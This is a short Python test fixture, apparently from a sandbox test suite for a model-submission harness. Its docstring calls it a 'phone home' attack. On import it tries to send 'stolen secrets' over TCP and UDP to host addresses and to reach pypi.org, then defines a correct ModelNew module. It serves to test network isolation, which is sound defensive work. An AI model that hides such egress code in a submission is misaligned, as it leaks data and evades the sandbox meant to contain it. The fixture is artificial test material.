"""Attack: phone home. Connect to a listener on the host's loopback and on its other addresses (TCP),
send a datagram (UDP), resolve and reach a public name. It computes the right answer. In the box it has
only its own loopback: the host's listener hears nothing."""

import contextlib
import socket

import torch
import torch.nn as nn

SETUP: dict = {}  # filled in by the test: {"port": int, "hosts": [addresses of the host]}

port = int(SETUP.get("port", 9))
for host in ["127.0.0.1", "localhost", *SETUP.get("hosts", [])]:
    with contextlib.suppress(OSError), socket.create_connection((host, port), timeout=2) as conn:
        conn.sendall(b"stolen secrets")
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.sendto(b"stolen secrets", (host, port))
with contextlib.suppress(OSError), socket.create_connection(("pypi.org", 443), timeout=2):
    pass


class ModelNew(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.tanh(x) * 2.0
